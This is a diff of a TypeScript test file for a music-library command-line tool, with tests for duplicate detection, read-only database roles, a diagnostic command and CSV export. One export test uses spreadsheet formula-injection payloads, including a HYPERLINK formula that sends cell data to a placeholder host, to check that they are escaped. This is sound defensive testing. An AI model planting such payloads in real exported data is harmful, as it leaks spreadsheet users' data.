@@ -2,6 +2,7 @@
 
 import { copyFileSync, renameSync } from "node:fs";
 import { beforeAll, describe, expect, it } from "vitest";
+import { openLibrary } from "../../src/library/index.ts";
 import { type AudioTags, flac, wav } from "../library/support/audio.ts";
 import { callCli, runCli } from "../support/cli.ts";
 import { useDatabase } from "../support/database.ts";
@@ -133,7 +134,13 @@ describe("artists that are nearly the same", () => {
 });
 
 interface Groups {
-  groups: { matchType: string; isProven: boolean; isCertain: boolean; files: { path: string }[] }[];
+  groups: {
+    matchType: string;
+    isProven: boolean;
+    isCertain: boolean;
+    extraBytes: number;
+    files: { path: string }[];
+  }[];
   proven: number;
 }
 
@@ -179,6 +186,62 @@ describe("duplicates", () => {
   });
 });
 
+it("duplicates of artists that are nearly the same come when asked for", async () => {
+  const near = await openLibrary(db.database, { library: "near" });
+  await near.batchInsertFiles([
+    { path: "1", size: 1, artist: "Ada Reed", title: "Night Ferry" },
+    { path: "2", size: 2, artist: "Ada Reeed", title: "Night Ferry" },
+  ]);
+  const duplicates = (...args: string[]) => library("duplicates", "--library", "near", ...args);
+  expect((await duplicates()).stdout).toBe("Nothing is there twice.\n");
+  expect((await duplicates("--fuzzy-artists")).stdout).toMatch(
+    /^artist and title alike, 0\.94, uncertain: 2 files$/m,
+  );
+  expect(await duplicates("--fuzzy-artists", "--by", "tags")).toMatchObject({ code: 2, stdout: "" });
+});
+
+it("likeness is not rounded up to what would be certain", async () => {
+  const near = await openLibrary(db.database, { library: "nearly" });
+  const title = "abcdefghijklmnopqrs";
+  await near.batchInsertFiles([
+    { path: "1", size: 1, artist: "A", title: `${title}t` },
+    { path: "2", size: 2, artist: "A", title: `${title.slice(1)}t` },
+    { path: "3", size: 1, artist: "B", title: `${title}u` },
+    { path: "4", size: 2, artist: "B", title: `${title}v` },
+    { path: "5", size: 1, artist: "C", title: `${title.slice(1)}u` },
+    { path: "6", size: 2, artist: "C", title: `${title.slice(1)}v` },
+  ]);
+  const { stdout } = await library("duplicates", "--library", "nearly");
+  expect(stdout.match(/^title alike.*$/gm)).toEqual([
+    "title alike, 0.97, certain: 2 files",
+    "title alike, 0.95, certain: 2 files",
+    "title alike, 0.94, uncertain: 2 files",
+  ]);
+});
+
+it("totals of duplicates count a file once, however many groups it is in", async () => {
+  const overlapping = await openLibrary(db.database, { library: "overlapping" });
+  const one = { artist: "A", title: "One" };
+  const bytes = { contentHash: "c", fullHash: "f" };
+  await overlapping.batchInsertFiles([
+    { path: "1", size: 100, ...one, ...bytes },
+    { path: "2", size: 100, ...one, ...bytes },
+    { path: "3", size: 100, ...one, contentHash: "c" },
+    { path: "4", size: 7, ...one, contentHash: "d" },
+    { path: "5", size: 7, artist: "A", title: "Ones", contentHash: "e" },
+  ]);
+  const report = await json<Groups>(...["duplicates", "--library", "overlapping"]);
+  expect(report.groups.map(({ files, extraBytes }) => [files.length, extraBytes])).toEqual([
+    [2, 100],
+    [3, 200],
+    [4, 207],
+    [5, 214],
+  ]);
+  expect(report).toMatchObject({ count: 4, files: 5, provenExtraBytes: 100, unprovenExtraBytes: 100 });
+  const { stdout } = await library("duplicates", "--library", "overlapping");
+  expect(stdout).toContain("\n4 groups of 5 files: ");
+});
+
 interface Vetted {
   total: number;
   newFiles: { path: string }[];
@@ -209,9 +272,50 @@ describe("vet", () => {
     expect(await db.value("select count(*)::int from library.file")).toBe(before);
   });
 
+  it("by a role that may only read: says at once which right it takes, and does without the history", async () => {
+    const role = `reader_${process.pid}`;
+    await db.rows(`create role ${role} login password 'reader'; grant usage on schema library to ${role};
+      grant select on all tables in schema library to ${role}`);
+    const url = new URL(db.dsn);
+    url.username = role;
+    url.password = "reader";
+    const vetAs = (dsn: URL, ...args: string[]) =>
+      callCli([
+        "library",
+        "vet",
+        folder.path("incoming"),
+        ...args,
+        "--json",
+        "--quiet",
+        "--dsn",
+        dsn.toString(),
+      ]);
+    const before = await db.value("select count(*)::int from library.vetting");
+    try {
+      const refused = await vetAs(url);
+      expect(refused.code).toBe(1);
+      const { message } = (JSON.parse(refused.stdout) as { error: { message: string } }).error;
+      expect(message).toContain(`grant select, insert on "library"."vetting" to ${role};`);
+      expect(message).toContain("--no-history");
+      expect(await vetAs(url, "--no-history")).toMatchObject({ code: 0 });
+      const readOnly = new URL(db.dsn);
+      readOnly.searchParams.set("options", "-c default_transaction_read_only=on");
+      expect((await vetAs(readOnly)).stdout).toContain("this connection may only read");
+      expect(await vetAs(readOnly, "--no-history")).toMatchObject({ code: 0 });
+      expect(await db.value("select count(*)::int from library.vetting")).toBe(before);
+      await db.rows(`grant insert on library.vetting to ${role}`);
+      expect(await vetAs(url)).toMatchObject({ code: 0 });
+      expect(await db.value("select count(*)::int from library.vetting")).toBe(Number(before) + 1);
+    } finally {
+      await db.rows(`drop owned by ${role}; drop role ${role}`);
+    }
+  });
+
   it.each<[string, () => string[], number]>([
+    ["neither, and no history", () => ["vet", "--no-history"], 2],
     ["neither folder nor history", () => ["vet"], 2],
     ["both", () => ["vet", folder.root, "--history"], 2],
+    ["a folder without a name", () => ["vet", ""], 2],
     ["a folder that is not there", () => ["vet", folder.path("nowhere")], 1],
   ])("refuses %s", async (_name, args, code) => {
     expect(await library(...args())).toMatchObject({ code, stdout: "" });
@@ -233,7 +337,13 @@ describe("stats and export", () => {
     expect(stdout).toMatch(/^default: 6 files in /);
     expect(stdout).toMatch(/^wav +6$/m);
     expect(await json("stats", "--all")).toMatchObject({
-      libraries: [{ name: "default", files: 6, root: folder.path("music") }, { name: "retagged" }],
+      libraries: [
+        { name: "default", files: 6, root: folder.path("music") },
+        { name: "near" },
+        { name: "nearly" },
+        { name: "overlapping" },
+        { name: "retagged" },
+      ],
     });
     expect((await library("stats", "--all")).stdout).toMatch(/^default +6 +[\d.]+ kB +20\S+ +\/.*music$/m);
     expect((await json("stats", "--all", "--schema", "none")) as object).toEqual({ libraries: [] });
@@ -250,11 +360,41 @@ describe("stats and export", () => {
     });
     const csv = (await library("export", "--format", "csv")).stdout.trimEnd().split("\n");
     expect(csv).toHaveLength(7);
-    expect(csv[0]).toMatch(/^path,filename,kind,format,size,/);
+    expect(csv[0]).toMatch(/^path,filename,kind,format,size,.*,is_hash_of_name,inode,warnings,id$/);
+    expect(csv.find((line) => /^d\/no tags/.test(line))).toMatch(/,true,\d+:\d+,,\d+$/);
     expect(csv.find((line) => /^a\/first/.test(line))).toContain(",Ada Reed,First Light,Harbour,,2001,");
     expect(csv.find((line) => /^c\/halo/.test(line))).toContain(',"{""genre"":[""Chamber""],');
     expect(await json("export")).toMatchObject({ count: 6 });
   });
+});
+
+it("a table for spreadsheets has no formulas, and one for programs is exact", async () => {
+  const formulas = await openLibrary(db.database, { library: "formulas" });
+  const artist = '=HYPERLINK("http://x/?"&A1)';
+  await formulas.batchInsertFiles([
+    { path: "-a.mp3", size: 1, artist, title: "+1", album: "@SUM(1)", tags: { a: "=1" } },
+    {
+      path: "b.mp3",
+      size: 2,
+      artist: "a=b",
+      title: " =1",
+      album: "\uff1d1",
+      albumArtist: "plain",
+      year: 2001,
+    },
+  ]);
+  const linesOf = async (...more: string[]): Promise<string[]> => {
+    const { stdout } = await library("export", "--library", "formulas", "--format", "csv", ...more);
+    return stdout.split("\n").slice(1, 3);
+  };
+  const quoted = '=HYPERLINK(""http://x/?""&A1)"';
+  const exact = await linesOf();
+  expect(exact[0]).toContain(`-a.mp3,-a.mp3,audio,mp3,1,,"${quoted},+1,@SUM(1),,`);
+  expect(exact[1]).toContain('b.mp3,b.mp3,audio,mp3,2,,a=b," =1",\uff1d1,plain,2001,');
+  const safe = await linesOf("--safe-for-spreadsheets");
+  expect(safe[0]).toContain(`'-a.mp3,'-a.mp3,audio,mp3,1,,"'${quoted},'+1,'@SUM(1),,`);
+  expect(safe[1]).toContain("b.mp3,b.mp3,audio,mp3,2,,a=b,' =1,'\uff1d1,plain,2001,");
+  expect(await library("export", "--safe-for-spreadsheets")).toMatchObject({ code: 2, stdout: "" });
 });
 
 describe("verify", () => {
@@ -288,6 +428,68 @@ describe("verify", () => {
     expect(JSON.parse(stdout)).toMatchObject({ error: { code: "UNREADABLE_SOURCE" } });
     renameSync(folder.path("unmounted"), folder.path("music"));
     expect((await json<Found>("search", "--missing")).count).toBe(0);
+  });
+});
+
+describe("doctor", () => {
+  interface Diagnosis {
+    library: object;
+    notes: string[];
+  }
+  const doctor = (...args: string[]) => callCli(["doctor", ...args, "--dsn", db.dsn]);
+  const diagnose = async (...args: string[]): Promise<Diagnosis> => {
+    const { code, stdout, stderr } = await doctor("--json", ...args);
+    expect(code, stderr).toBe(0);
+    return JSON.parse(stdout) as Diagnosis;
+  };
+
+  it("says what the store of libraries is like, and where there is none", async () => {
+    const files = await db.value<number>("select count(*)::int from library.file");
+    const { library: store, notes } = await diagnose();
+    expect(store).toMatchObject({
+      schema: "library",
+      exists: true,
+      version: expect.stringMatching(/^\d{4}_/),
+      pending: [],
+      files,
+      libraries: expect.any(Number),
+      trigrams: { schema: "public" },
+      problem: null,
+    });
+    expect(notes.join()).not.toContain("up to date");
+    expect((await doctor()).stdout).toMatch(
+      /^library {3}[\d,]+ files of \d+ libraries in the schema library, version \d{4}_\w+; pg_trgm in the schema public$/m,
+    );
+    expect(await diagnose("--library-schema", "none")).toMatchObject({
+      library: { exists: false, files: null },
+    });
+    expect((await doctor("--library-schema", "none")).stdout).toMatch(
+      /^library {3}none in the schema none; /m,
+    );
+  });
+
+  it("names what is pending, and the right that is missing", async () => {
+    await openLibrary(db.database, { schema: "older" });
+    await db.rows(
+      "delete from older.library_migration where name = (select max(name) from older.library_migration)",
+    );
+    const older = await diagnose("--library-schema", "older");
+    expect(older.library).toMatchObject({ exists: true, pending: [expect.stringMatching(/^\d{4}_/)] });
+    expect(older.notes.join()).toContain("the next scan brings the schema older up to date");
+    const role = `patient_${process.pid}`;
+    await db.rows(`create role ${role} login password 'patient'`);
+    const url = new URL(db.dsn);
+    url.username = role;
+    url.password = "patient";
+    try {
+      const { code, stdout } = await callCli(["doctor", "--json", "--dsn", url.toString()]);
+      expect(code).toBe(0);
+      const { library: store, notes } = JSON.parse(stdout) as Diagnosis;
+      expect(store).toMatchObject({ problem: expect.stringContaining("permission denied") });
+      expect(notes.join()).toContain("permission denied");
+    } finally {
+      await db.rows(`drop role ${role}`);
+    }
   });
 });
 
